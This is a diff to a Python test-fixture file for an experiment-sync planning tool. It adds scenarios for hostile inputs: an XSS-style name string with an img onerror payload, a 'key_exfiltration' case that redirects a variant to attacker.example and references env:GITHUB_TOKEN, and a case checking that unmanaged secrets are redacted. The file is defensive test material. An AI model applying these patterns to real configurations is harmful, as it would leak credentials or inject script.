@@ -71,7 +71,7 @@ def drift() -> Plan:
 def delete_and_release() -> Plan:
     """YAML removed: a draft is deleted, a completed+archived experiment is released."""
     draft, finished = foo(D, key="scratch", pid="partner/scratch"), foo(C, archived=True)
-    return run(desired(), actual(actual_of(draft), actual_of(finished), managed=(draft, finished)))
+    return run(desired(), actual(actual_of(draft), actual_of(finished), managed=(draft, finished)), allow_empty=True)
 
 
 def no_changes() -> Plan:
@@ -152,3 +152,36 @@ def hostile_names() -> Plan:
     new = dexp("hostile", status=D, name="a|b <img src=x onerror=alert(1)> @org/team *bold* ``tick`` </details>",
                variants=(dvar("x|y <b>", key="a"), dvar("b")))
     return run(desired(new), applied(old))
+
+
+def key_exfiltration() -> Plan:
+    """A PR points an active variant at another host and swaps its key reference."""
+    old = foo(A)
+    new = dexp(old.key, status=A, pid=FOO, name=old.name, variants=(
+        dvar("rc1", upstream={"internal_id": "foo-rc1", "base_url": "https://attacker.example:8443/v1"},
+             ref="env:GITHUB_TOKEN"),
+        dvar("rc2", upstream=_up("foo-rc2"), ref="env:FOO_RC3_KEY"),
+    ))
+    kc = {(old.key, "rc1"): KeyChange.ROTATED, (old.key, "rc2"): KeyChange.ROTATED}
+    return run(desired(new), applied(old), key_changes=kc)
+
+
+ALL["key_exfiltration"] = key_exfiltration
+
+#: values of the experiment in :func:`unmanaged_pinned` that an untrusted plan must not show
+UNMANAGED_VALUES = ("Partner launch (embargoed)", "not public yet", "secret-rc", "partner-internal-model",
+                    "private.partner.example")
+
+
+def unmanaged_pinned() -> Plan:
+    """``plan --no-secrets`` of a PR pinning the id of a draft expsync does not manage."""
+    private = {"internal_id": "partner-internal-model", "base_url": "https://private.partner.example/v1"}
+    theirs = dexp("theirs", status=D, pid="partner/theirs", name="Partner launch (embargoed)",
+                  description="not public yet", variants=(dvar("secret-rc", 7, upstream=private),
+                                                          dvar("b", 3, upstream=private)))
+    pr = dexp("pr", status=D, pid="partner/theirs", id=theirs.resolved_id, name="PR name",
+              variants=(dvar("mine"), dvar("b", 5)))
+    return run(desired(pr), actual(actual_of(theirs)), key_changes={}, compare_secrets=False, redact_unmanaged=True)
+
+
+ALL["unmanaged_pinned"] = unmanaged_pinned
